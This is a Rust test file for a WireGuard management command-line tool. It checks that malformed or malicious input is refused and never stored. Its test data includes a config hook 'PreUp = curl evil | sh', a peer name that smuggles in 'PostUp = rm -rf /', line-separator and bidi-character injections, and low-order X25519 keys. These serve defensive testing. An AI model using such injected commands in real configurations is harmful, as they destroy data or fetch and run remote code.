//! Every input docs/security.md says to reject, tried through the command line: exit code 2
//! (or the documented other code), a one-line message naming the field, and nothing
//! written to the store.

use crate::harness::{check_failure, Env};

/// The seven low-order X25519 points (docs/security.md, "Known answers").
const LOW_ORDER: [&str; 7] = [
    "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA=",
    "AQAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA=",
    "4Ot6fDtBuK4WVuP68Z/EatoJjeucMrH9hmIFFl9JuAA=",
    "X5yVvKNQjCSx0LFVnIPvWwREXMRYHI6G2CJO3dCfEVc=",
    "7P///////////////////////////////////////38=",
    "7f///////////////////////////////////////38=",
    "7v///////////////////////////////////////38=",
];

/// Alice's public key from RFC 7748 §6.1, canonical.
const ALICE: &str = "hSDwCYkwp1R0i33ctD73Wg2/Og0mOBr066SpjqqbTmo=";

fn setup() -> Env {
    let env = Env::new();
    env.server("office", 51820);
    env.ok(&[
        "peer",
        "add",
        "office",
        "alice",
        "--allowed-ips",
        "192.168.50.0/24",
    ]);
    env
}

/// Run every case: each fails with its code and names its field; afterwards the store
/// is exactly as before.
fn check_all(env: &Env, cases: &[(Vec<String>, i32, &str)]) {
    let before = env.snapshot();
    for (args, code, field) in cases {
        let refs: Vec<&str> = args.iter().map(String::as_str).collect();
        let r = env.run(&refs);
        check_failure(&refs, &r, *code);
        assert!(
            r.stderr.contains(field),
            "wgm {refs:?}: the message must name {field:?}: {}",
            r.stderr
        );
    }
    assert_eq!(
        env.snapshot(),
        before,
        "a rejected command wrote to the store"
    );
}

fn v(args: &[&str]) -> Vec<String> {
    args.iter().map(|s| (*s).to_owned()).collect()
}

#[test]
fn bad_names_are_refused() {
    let env = setup();
    let long = "x".repeat(65);
    let bad_names = [
        "a\nPostUp = rm -rf /",
        "a\rb",
        "a\tb",
        "a\u{85}b",
        "a\u{2028}b",
        "a\u{2029}b",
        "a\u{202e}b",
        "a\u{2066}b",
        "a#b",
        "a[b",
        "a]b",
        "a=b",
        "-lead",
        ".lead",
        "a/b",
        "a\\b",
        ".",
        "..",
        "",
        long.as_str(),
    ];
    let mut cases = Vec::new();
    for n in bad_names {
        // `--` so that a leading `-` reaches the name check instead of the flag parser.
        cases.push((v(&["peer", "add", "office", "--", n]), 2, "peer.name"));
        cases.push((
            v(&[
                "server",
                "create",
                "--listen-port",
                "51999",
                "--interface",
                "wg7",
                "--",
                n,
            ]),
            2,
            "server.name",
        ));
    }
    for n in ["a b", "a\nb", "-x", ".x", "a/b", ""] {
        cases.push((
            v(&["user", "add", "--role", "user", "--", n]),
            2,
            "user.name",
        ));
    }
    for i in [
        "wg 0",
        "toolongname12345",
        "wg/0",
        "wg\n0",
        "",
        ".",
        "..",
        "-wg",
        "wg0:1",
    ] {
        // `--interface=VALUE` so that a leading `-` is taken as the value.
        let arg = format!("--interface={i}");
        cases.push((
            v(&["server", "create", "s2", "--listen-port", "51999", &arg]),
            2,
            "server.interface",
        ));
    }
    // A server name that is no interface name, without --interface.
    cases.push((
        v(&["server", "create", "my office", "--listen-port", "51999"]),
        2,
        "server.interface",
    ));
    // Duplicates, ignoring case, are bad input naming the field.
    cases.push((v(&["peer", "add", "office", "ALICE"]), 2, "peer.name"));
    cases.push((
        v(&[
            "server",
            "create",
            "Office",
            "--listen-port",
            "51999",
            "--interface",
            "wg9",
        ]),
        2,
        "server.name",
    ));
    check_all(&env, &cases);
}

#[test]
fn bad_keys_are_refused() {
    let env = setup();
    let server_key = env.json(&["server", "show", "office"])["public_key"]
        .as_str()
        .unwrap()
        .to_owned();
    let alice_key = env.json(&["peer", "show", "office", "alice"])["public_key"]
        .as_str()
        .unwrap()
        .to_owned();
    let hex: String = "85 20 f0 09 89 30 a7 54 74 8b 7d dc b4 3e f7 5a 0d bf 3a 0d 26 38 1a f4 eb a4 a9 8e aa 9b 4e 6a"
        .split(' ')
        .collect();
    let bad = [
        &ALICE[..43],                                     // 43 characters
        "hSDwCYkwp1R0i33ctD73Wg2/Og0mOBr066SpjqqbTmo==",  // 45 characters
        "hSDwCYkwp1R0i33ctD73Wg2/Og0mOBr066SpjqqbTmp=",   // non-canonical last bits
        "hSDwCYkwp1R0i33ctD73Wg2_Og0mOBr066SpjqqbTmo=",   // URL-safe alphabet
        " hSDwCYkwp1R0i33ctD73Wg2/Og0mOBr066SpjqqbTmo",   // whitespace
        "hSDwCYkwp1R0i33ctD73Wg2/Og0mOBr066SpjqqbTmo=\n", // trailing newline
        hex.as_str(),                                     // hex where base64 is expected
        "",
    ];
    let mut cases = Vec::new();
    for k in bad.iter().chain(LOW_ORDER.iter()) {
        cases.push((
            v(&["peer", "add", "office", "p", "--public-key", k]),
            2,
            "peer.public_key",
        ));
    }
    cases.push((
        v(&["peer", "add", "office", "p", "--public-key", &server_key]),
        2,
        "peer.public_key",
    ));
    // A key another peer has: bad input naming the field.
    cases.push((
        v(&["peer", "add", "office", "p", "--public-key", &alice_key]),
        2,
        "peer.public_key",
    ));
    check_all(&env, &cases);
    // No error message repeats the offending key.
    for k in &bad[..4] {
        let e = env.fails(&["peer", "add", "office", "p", "--public-key", k], 2);
        assert!(!e.contains(k), "{e}");
    }
}

#[test]
fn bad_addresses_are_refused() {
    let env = setup();
    let p = |flag: &str, val: &str, field: &'static str| {
        (v(&["peer", "add", "office", "p", flag, val]), 2, field)
    };
    let s = |flag: &str, val: &str, field: &'static str| {
        (
            v(&[
                "server",
                "create",
                "s2",
                "--listen-port",
                "51999",
                flag,
                val,
            ]),
            2,
            field,
        )
    };
    let seventeen_dns = (1..=17)
        .map(|i| format!("fd00::{i:x}"))
        .collect::<Vec<_>>()
        .join(",");
    let mut cases = vec![
        // Forms: leading zeros, hex, short forms, zone ids, IPv4-mapped IPv6.
        p("--ipv4", "010.8.0.2", "peer.ipv4"),
        p("--ipv4", "0x0a.8.0.2", "peer.ipv4"),
        p("--ipv4", "10.8.2", "peer.ipv4"),
        p("--ipv4", "10.8.0.256", "peer.ipv4"),
        p("--ipv6", "fe80::1%wg0", "peer.ipv6"),
        p("--ipv6", "::ffff:10.8.0.2", "peer.ipv6"),
        p("--ipv6", "fd12:3456:789a:1::2/128", "peer.ipv6"),
        p("--ipv6", "none", "peer.ipv6"),
        // Outside the pool, network and broadcast, reserved IPv6 identifiers.
        p("--ipv4", "10.9.0.2", "peer.ipv4"),
        p("--ipv4", "10.8.0.0", "peer.ipv4"),
        p("--ipv4", "10.8.0.255", "peer.ipv4"),
        p("--ipv6", "fd00::2", "peer.ipv6"),
        p("--ipv6", "fd12:3456:789a:1::", "peer.ipv6"),
        p(
            "--ipv6",
            "fd12:3456:789a:1:fdff:ffff:ffff:ff80",
            "peer.ipv6",
        ),
        p(
            "--ipv6",
            "fd12:3456:789a:1:fdff:ffff:ffff:ffff",
            "peer.ipv6",
        ),
        p("--ipv6", "fd12:3456:789a:1:200:5eff:fe00:1", "peer.ipv6"),
        p("--ipv6", "fd12:3456:789a:1:200:5eff:feff:ffff", "peer.ipv6"),
        // Multicast, loopback, link-local, unspecified.
        p("--ipv6", "ff02::1", "peer.ipv6"),
        p("--ipv6", "::1", "peer.ipv6"),
        p("--ipv6", "fe80::1", "peer.ipv6"),
        p("--ipv6", "::", "peer.ipv6"),
        p("--ipv4", "224.0.0.1", "peer.ipv4"),
        p("--ipv4", "127.0.0.1", "peer.ipv4"),
        p("--ipv4", "169.254.0.1", "peer.ipv4"),
        p("--ipv4", "0.0.0.0", "peer.ipv4"),
        // Delegated prefixes.
        p("--prefix", "fd12:3456:789a:2::1/64", "peer.prefix"),
        p("--prefix", "10.0.0.0/8", "peer.prefix"),
        // Allowed IPs: host bits, prefix too long, default routes, overlap with a pool or
        // with another peer's allowed IPs.
        p("--allowed-ips", "192.168.60.1/24", "peer.allowed_ips"),
        p("--allowed-ips", "192.168.60.0/33", "peer.allowed_ips"),
        p("--allowed-ips", "fd99::/129", "peer.allowed_ips"),
        p("--allowed-ips", "0.0.0.0/0", "peer.allowed_ips"),
        p("--allowed-ips", "::/0", "peer.allowed_ips"),
        p("--allowed-ips", "10.8.0.128/25", "peer.allowed_ips"),
        p("--allowed-ips", "192.168.50.128/25", "peer.allowed_ips"),
        p("--allowed-ips", "192.168.0.0/16", "peer.allowed_ips"),
        p("--allowed-ips", "192.168.70.0/24,,", "peer.allowed_ips"),
        // Pools: host bits, prefix too long, wrong family, bad forms.
        s("--ipv4", "10.8.0.1/24", "server.ipv4_pool"),
        s("--ipv4", "10.8.0.0/33", "server.ipv4_pool"),
        s("--ipv4", "fd00::/64", "server.ipv4_pool"),
        s("--ipv4", "010.8.0.0/24", "server.ipv4_pool"),
        s("--ipv6", "fd00::1/64", "server.ipv6_pool"),
        s("--ipv6", "fd00::/129", "server.ipv6_pool"),
        s("--ipv6", "10.0.0.0/8", "server.ipv6_pool"),
        s("--ipv6", "fd00::/064", "server.ipv6_pool"),
        s("--dns", "010.0.0.1", "server.dns"),
        // DNS lists: at most 16 entries, none twice.
        s("--dns", "1.1.1.1,lan,1.1.1.1", "server.dns[2]"),
        s("--dns", &seventeen_dns, "server.dns: must have at most 16"),
    ];
    // The server's own address: bad input naming the field.
    cases.push((
        v(&["peer", "add", "office", "p", "--ipv4", "10.8.0.1"]),
        2,
        "peer.ipv4",
    ));
    cases.push((
        v(&[
            "peer",
            "add",
            "office",
            "p",
            "--ipv6",
            "fd12:3456:789a:1::1",
        ]),
        2,
        "peer.ipv6",
    ));
    // Another peer's address: bad input too.
    cases.push((
        v(&["peer", "add", "office", "p", "--ipv4", "10.8.0.2"]),
        2,
        "peer.ipv4",
    ));
    check_all(&env, &cases);
}

#[test]
fn bad_ports_endpoints_mtu_keepalive_fwmark_times_are_refused() {
    let env = setup();
    let s = |flag: &str, val: &str, field: &'static str| {
        (
            v(&[
                "server",
                "create",
                "s2",
                "--listen-port",
                "51999",
                flag,
                val,
            ]),
            2,
            field,
        )
    };
    let mut cases = vec![
        s("--endpoint", "vpn.example.org", "server.endpoint"),
        s("--endpoint", "vpn.example.org:0", "server.endpoint"),
        s("--endpoint", "vpn.example.org:65536", "server.endpoint"),
        s("--endpoint", "2001:db8::1:51820", "server.endpoint"),
        s("--endpoint", "[2001:db8::1]", "server.endpoint"),
        s("--endpoint", "vpn.example.org:+51820", "server.endpoint"),
        s("--mtu", "1279", "server.mtu"),
        s("--mtu", "9001", "server.mtu"),
        s("--mtu", "abc", "server.mtu"),
        s("--fwmark", "4294967296", "server.fwmark"),
        // Closed sets are clap value enums: the message names the flag.
        s("--strategy", "fastest", "--strategy"),
        s("--tunnel", "half", "--tunnel"),
        (
            v(&["peer", "add", "office", "p", "--keepalive", "65536"]),
            2,
            "peer.keepalive",
        ),
        (
            v(&["peer", "add", "office", "p", "--keepalive=-1"]),
            2,
            "peer.keepalive",
        ),
        (
            v(&["peer", "add", "office", "p", "--endpoint", "host"]),
            2,
            "peer.endpoint",
        ),
        (
            v(&["peer", "add", "office", "p", "--expires", "yesterday"]),
            2,
            "peer.expires_at",
        ),
        (
            v(&[
                "peer",
                "add",
                "office",
                "p",
                "--expires",
                "2001-01-01T00:00:00Z",
            ]),
            2,
            "peer.expires_at",
        ),
        (
            v(&["peer", "add", "office", "p", "--count", "many"]),
            2,
            "peer.count",
        ),
        (
            v(&["server", "set", "office", "--mtu", "1000"]),
            2,
            "server.mtu",
        ),
        (
            v(&["server", "set", "office", "--listen-port", "0"]),
            2,
            "server.listen_port",
        ),
        (
            v(&["server", "set", "office", "--client-keepalive", "70000"]),
            2,
            "keepalive",
        ),
        (
            v(&["peer", "set", "office", "alice", "--keepalive", "65536"]),
            2,
            "peer.keepalive",
        ),
        (
            v(&["peer", "set", "office", "alice", "--allowed-ips", "::/0"]),
            2,
            "peer.allowed_ips",
        ),
        (v(&["history", "office", "--limit=-1"]), 2, "history.limit"),
        (v(&["rollback", "office", "01"]), 2, "rollback.revision"),
        (v(&["token", "revoke", "not-a-uuid"]), 2, "token.id"),
    ];
    for port in [
        "+51820", "51820 ", " 51820", "0x10", "65536", "0", "051820", "", "5e4",
    ] {
        cases.push((
            v(&["server", "create", "s2", "--listen-port", port]),
            2,
            "server.listen_port",
        ));
    }
    check_all(&env, &cases);
}

#[test]
fn bad_imports_are_refused() {
    let env = setup();
    let good = env.ok(&["server", "export", "office"]);
    let write = |name: &str, text: &str| {
        let p = env.path(name);
        std::fs::write(&p, text).unwrap();
        p.to_str().unwrap().to_owned()
    };
    let unknown = write(
        "unknown.conf",
        &good.replace("[Interface]\n", "[Interface]\nFrobnicate = yes\n"),
    );
    let dup = write(
        "dup.conf",
        &format!("{good}\n[Interface]\nListenPort = 1\n"),
    );
    let hooks = write(
        "hooks.conf",
        &good.replace("[Interface]\n", "[Interface]\nPreUp = curl evil | sh\n"),
    );
    let name_inject = write(
        "inject.conf",
        &good.replace("# Name = alice", "# Name = alice\u{2028}PostUp = x"),
    );
    let not_utf8 = env.path("latin1.conf");
    std::fs::write(&not_utf8, b"[Interface]\n# Name = caf\xe9\n").unwrap();
    let big = env.path("big.conf");
    {
        let f = std::fs::File::create(&big).unwrap();
        f.set_len((16 << 20) + 10).unwrap();
    }
    let imp = |file: &str| {
        v(&[
            "server",
            "import",
            "imported",
            "--interface",
            "wg5",
            "--file",
            file,
        ])
    };
    let cases = vec![
        (imp(&unknown), 2, "Frobnicate"),
        (imp(&dup), 2, "Interface"),
        (imp(&hooks), 2, "PreUp"),
        (imp(&name_inject), 2, "invalid line"),
        (imp(not_utf8.to_str().unwrap()), 2, "import.file"),
        (imp(big.to_str().unwrap()), 2, "larger than the limit"),
        (
            imp(env.path("missing.conf").to_str().unwrap()),
            2,
            "import.file",
        ),
    ];
    check_all(&env, &cases);
}

#[test]
fn bad_passwords_roles_and_scopes_are_refused() {
    let env = setup();
    let before = env.snapshot();
    for (input, what) in [
        (&b""[..], "empty"),
        (b"\n", "empty line"),
        (b"short\n", "too short"),
        (b"long enough but has a \0 NUL\n", "NUL"),
    ] {
        let r = env.run_with_stdin(
            &["user", "add", "pat", "--role", "user", "--password-stdin"],
            input,
        );
        check_failure(&["user", "add", what], &r, 2);
        assert!(
            r.stderr.contains("invalid password"),
            "{what}: {}",
            r.stderr
        );
    }
    // Over the library's byte cap, and over the CLI's read cap.
    let long = vec![b'a'; 1025];
    let r = env.run_with_stdin(
        &["user", "add", "pat", "--role", "user", "--password-stdin"],
        &long,
    );
    check_failure(&["user", "add", "long"], &r, 2);
    assert!(r.stderr.contains("at most 1024 bytes"), "{}", r.stderr);
    let huge = vec![b'a'; 70_000];
    let r = env.run_with_stdin(
        &["user", "add", "pat", "--role", "user", "--password-stdin"],
        &huge,
    );
    check_failure(&["user", "add", "huge"], &r, 2);
    assert!(r.stderr.contains("invalid password"), "{}", r.stderr);
    assert_eq!(env.snapshot(), before);
    let cases = vec![
        (
            v(&["user", "add", "pat", "--role", "superhero"]),
            2,
            "user.roles",
        ),
        (
            v(&["user", "add", "pat", "--role", "bad role"]),
            2,
            "user.role",
        ),
        (
            v(&[
                "user",
                "add",
                "pat",
                "--role",
                "user",
                "--email",
                "pat@@example.org",
            ]),
            2,
            "user.email",
        ),
    ];
    check_all(&env, &cases);
    env.ok(&["user", "add", "pat", "--role", "user"]);
    let before = env.snapshot();
    let cases = vec![
        (
            v(&["token", "create", "pat", "--scope", "audit:delete"]),
            2,
            "token.scopes",
        ),
        (
            v(&[
                "token",
                "create",
                "pat",
                "--scope",
                "peer:update:mine@server:office",
            ]),
            2,
            "token.scopes",
        ),
        (
            v(&["token", "create", "pat", "--name", ""]),
            2,
            "token.name",
        ),
        (
            v(&["token", "create", "pat", "--name", "ci\u{202e}yolped"]),
            2,
            "token.name",
        ),
        (
            v(&["token", "create", "pat", "--name", " padded"]),
            2,
            "token.name",
        ),
        (
            v(&[
                "token",
                "create",
                "pat",
                "--expires",
                "2001-01-01T00:00:00Z",
            ]),
            2,
            "token.expires_at",
        ),
        // A token may not hold more than its owner.
        (
            v(&["token", "create", "pat", "--scope", "user:delete"]),
            5,
            "permission",
        ),
    ];
    for (args, code, field) in &cases {
        let refs: Vec<&str> = args.iter().map(String::as_str).collect();
        let r = env.run(&refs);
        check_failure(&refs, &r, *code);
        assert!(r.stderr.contains(field), "{refs:?}: {}", r.stderr);
    }
    // Nothing written but the audit record of the one refusal (a scope beyond what the
    // owner holds).
    let mut want = before;
    want["audit_writes"] = (want["audit_writes"].as_u64().unwrap() + 1).into();
    assert_eq!(env.snapshot(), want);
}
